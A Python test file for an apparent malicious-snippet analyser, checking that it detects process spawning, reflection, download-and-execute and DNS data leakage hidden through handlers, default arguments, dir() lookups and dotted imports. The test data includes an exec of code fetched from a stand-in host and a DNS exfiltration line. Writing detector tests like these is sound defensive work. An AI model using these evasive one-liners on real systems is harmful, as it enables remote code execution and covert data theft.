"""Ways around the plain call: handlers, defaults and keyword arguments, places in dir(), modules by a dotted name."""

from __future__ import annotations

import pytest

from flycatcher.core.payload import analyse
from flycatcher.core.snippet import Snippet


def found(language: str, text: str) -> set[str]:
    """Return the ids of what the text would do."""
    snippet = Snippet(interpreter=language, language=language, vector="argument", text=text)
    return {capability.id for capability in analyse(snippet).capabilities}


@pytest.mark.parametrize(
    ("language", "text", "capability"),
    [
        ("perl", '$SIG{ALRM} = sub { system("id") }; alarm 1; sleep 2', "process.spawn"),
        ("perl", 'local $SIG{__DIE__} = sub { exec "ls" }; die', "process.spawn"),
        ("perl", '@SIG{qw(INT TERM)} = (sub { system("id") }) x 2; kill 2, $$', "process.spawn"),
        ("python", "(lambda f=__import__('os').system, c='id': f(c))()", "process.spawn"),
        ("python", "(lambda f, c: f(c))(c='id', f=__import__('os').system)", "process.spawn"),
        ("python", "(lambda **k: k['f'](k['c']))(f=__import__('os').system, c='id')", "process.spawn"),
        ("python", "def g(*, f=__import__('os').system): f('id')\ng()", "process.spawn"),
        ("python", "import os; getattr(os, dir(os)[dir(os).index('system')])('id')", "eval.reflection"),
        (
            "python",
            "exec(__import__('urllib.request').request.urlopen('https://files.example/a').read())",
            "network.download-and-execute",
        ),
        ("python", "__import__('os.path', fromlist=['x']).os.system('id')", "process.spawn"),
        ("python", "import socket as s; s.gethostbyname(s.gethostname() + '.files.example')", "network.dns-data"),
    ],
)
def test_detour_leads_to_the_same_deed(language: str, text: str, capability: str) -> None:
    assert capability in found(language, text)


@pytest.mark.parametrize(
    ("language", "text", "capability"),
    [
        ("perl", '$SIG{ALRM} = sub { die "late" }; alarm 5', "process.spawn"),
        ("perl", "$HANDLER{x} = 1; %SIGNS = (a => 1)", "process.spawn"),
        ("python", "(lambda f=print, c='id': f(c))()", "process.spawn"),
        ("python", "import os; print([n for n in dir(os) if n.startswith('sys')])", "eval.reflection"),
        ("python", "import m; [getattr(m, n)() for n in dir(m)]", "eval.reflection"),
        ("python", "import socket; print(socket.gethostbyname(socket.gethostname()))", "network.dns-data"),
    ],
)
def test_look_alike_is_not_charged_with_it(language: str, text: str, capability: str) -> None:
    assert capability not in found(language, text)
